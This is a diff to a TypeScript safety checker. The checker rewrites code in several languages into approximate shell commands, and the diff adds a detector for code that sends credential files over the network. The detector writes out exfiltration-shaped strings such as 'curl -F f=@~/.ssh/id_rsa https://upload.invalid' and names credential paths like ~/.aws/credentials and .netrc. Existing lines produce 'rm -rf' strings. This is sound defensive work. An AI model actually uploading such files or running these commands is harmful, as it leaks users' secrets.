@@ -13,7 +13,8 @@
  * Approximate means the floor reads the text through its tolerant reader: it may refuse more than
  * the code does, never see less of the literals than the code holds.
  */
-import { GENERIC_ROW, homeExpressionsOf, languageRowFor, LISTING_WORDS, MOVE_WORDS, OPEN_WORDS, TRUNCATION_WORDS, withHomeSpelt, WRITE_WORDS, type LanguageRow } from './rows';
+import { GENERIC_ROW, homeExpressionsOf, languageRowFor, LISTING_WORDS, MOVE_WORDS, NETWORK_WORDS, OPEN_WORDS, TRUNCATION_WORDS, withHomeSpelt, WRITE_WORDS, type LanguageRow } from './rows';
+import { CREDENTIAL_HINT } from './reader';
 
 export interface ApproximateText {
   text: string;
@@ -51,7 +52,7 @@ export function readApproximately(code: string, program: string): ApproximateTex
       for (const target of deletionTargets(window, row)) out.push({ text: `rm -rf -- ${target}`, what: `${api} in ${row.language} code` });
     }
   }
-  out.push(...fileWrites(stripped, code, row), ...listedDeletions(stripped, code, literals, row));
+  out.push(...fileWrites(stripped, code, row), ...listedDeletions(stripped, code, literals, row), ...sentCredentials(stripped, code, literals, row));
   for (const text of row.declarations?.(code) ?? []) out.push({ text, what: `a ${row.language} declaration` });
   if (row.shellLike) {
     for (const line of stripped.split(/\r?\n|;/)) {
@@ -89,6 +90,35 @@ function fileWrites(stripped: string, code: string, row: LanguageRow): Approxima
     const targets = writes ? pathTargets(window, row) : literals.filter((literal) => /^\+?>\s*[/~]/.test(literal)).map((literal) => quoteShell(literal.replace(/^\+?>\s*/, '')));
     for (const target of targets) out.push({ text: `: > ${target}`, what: `${api} in ${row.language} code` });
   });
+  return out;
+}
+
+/** Most credential paths of one piece of code handed on as uploads. */
+const MAX_SENT_CREDENTIALS = 8;
+
+/**
+ * A credential path in code that opens a connection or sends a request (a name of the row's
+ * `networkApis`, or {@link NETWORK_WORDS}) is sent at its worst: `curl -F f=@PATH …`, judged by the
+ * floor's one notion of a credential, as the Python and JavaScript reader does (`open F,
+ * "$ENV{HOME}/.aws/credentials"` with `IO::Socket::INET`, `File.read("~/.gem/credentials")` with
+ * `TCPSocket`). A relative path beside a home expression (`File.join(Dir.home, ".netrc")`) is
+ * taken below the home folder. Which file the code sends is not worked out: a miss of a path the
+ * hint does not name, and a refusal of code that reads a key for another purpose beside a request.
+ */
+function sentCredentials(stripped: string, code: string, literals: readonly string[], row: LanguageRow): ApproximateText[] {
+  const api = (row.networkApis ?? NETWORK_WORDS).find((name) => occurrences(stripped, name).length > 0);
+  if (api === undefined) return [];
+  const home = homeExpressionsOf(row).some((expression) => expression !== '~' && code.includes(expression)) || withHomeSpelt(code) !== code;
+  const out: ApproximateText[] = [];
+  for (const literal of literals) {
+    if (out.length >= MAX_SENT_CREDENTIALS) break;
+    const path = withHomeSpelt(literal).trim();
+    if (/\s/.test(path) || !CREDENTIAL_HINT.test(path)) continue;
+    // A relative path, or a dot-path concatenated onto a home expression (`getenv("HOME")."/.ssh/id_rsa"`), below the home folder.
+    const rooted = home && (/^\/\./.test(path) || !/^(?:\/|~)/.test(path)) ? `~/${path.replace(/^\.?\//, '')}` : path;
+    const quoted = rooted.startsWith('~/') ? `~/${quoteShell(rooted.slice(2))}` : quoteShell(rooted);
+    out.push({ text: `curl -F f=@${quoted} https://upload.invalid`, what: `${api} in ${row.language} code, with ${rooted}` });
+  }
   return out;
 }
 
